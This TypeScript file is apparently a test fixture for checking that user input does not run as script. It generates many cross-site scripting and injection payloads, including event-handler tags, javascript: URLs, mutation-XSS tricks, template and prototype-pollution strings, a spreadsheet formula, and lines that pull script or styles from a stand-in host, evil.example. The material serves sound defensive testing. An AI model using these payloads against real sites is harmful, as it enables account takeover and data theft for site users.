/**
 * Texts that run as script wherever one is put into a page as markup, an address or code: what people write is none of
 * these. Each tells by `globalThis.ranHere`.
 */
const script = 'globalThis.ranHere=1'

const events = ['error', 'load', 'toggle', 'focus', 'mouseover', 'animationstart', 'pointerenter', 'begin']
const bearers = [
  'img src=x',
  'svg',
  'body',
  'details open',
  'input autofocus',
  'video src=x',
  'marquee',
  'a id=x tabindex=1',
]
const marks = events.flatMap((event) => bearers.map((bearer) => `<${bearer} on${event}="${script}">`))
const elements = [
  `<script>${script}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${script}</scr</script>ipt>`,
  `<iframe srcdoc="<script>parent.ranHere=1</script>"></iframe>`,
  `<iframe src="javascript:parent.ranHere=1"></iframe>`,
  `<object data="javascript:${script}"></object>`,
  `<embed src="javascript:${script}">`,
  `<form action="javascript:${script}"><button autofocus>x</button></form>`,
  `<a href="javascript:${script}">x</a>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${script}">`,
  `<svg><animate onbegin="${script}" attributeName=x dur=1s>`,
  `<svg><script>${script}</script></svg>`,
  `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
  `<link rel=stylesheet href="data:text/css,*{color:red}">`,
  `<style>@import "//evil.example/x.css"</style>`,
  `<base href="//evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${script}">`,
  `<template><img src=x onerror="${script}"></template>`,
]
const escapes = elements.flatMap((element) => [`"'>${element}`, `</script>${element}`, `</title></textarea>${element}`])
const codes = [
  `javascript:${script}`,
  `JaVaScRiPt&colon;${script}`,
  `data:text/html,<script>${script}</script>`,
  `\`;${script};//`,
  `';${script};//`,
  `";${script};//`,
  `\${${script}}`,
  `{{constructor.constructor('${script}')()}}`,
  `{"__proto__":{"ranHere":1}}`,
  `</script><script>${script}//`,
  `--></style><script>${script}</script>`,
  `]]><script>${script}</script>`,
  `%3Cscript%3E${script}%3C/script%3E`,
  `&lt;script&gt;${script}&lt;/script&gt;`,
  `\u202E${script}\u202C`,
  `{name, plural, other {<0>${script}</0>}}`,
  `<0>${script}</0>`,
  `=HYPERLINK("javascript:${script}","x")`,
]
const encoded = marks.map((mark) => mark.replaceAll('<', '\\u003c').replaceAll('"', '&quot;'))

export const hostileTexts: readonly string[] = [...marks, ...elements, ...escapes, ...codes, ...encoded]

/** As many of them as fit into so many characters, from `start` on: fields differ in what they hold. */
export const hostile = (most: number, start = 0): string => {
  let text = ''
  for (let index = 0; index < hostileTexts.length; index++) {
    const next = hostileTexts[(start + index) % hostileTexts.length] ?? ''
    if (text.length + next.length + 1 <= most) text += `${text === '' ? '' : ' '}${next}`
  }
  return text
}
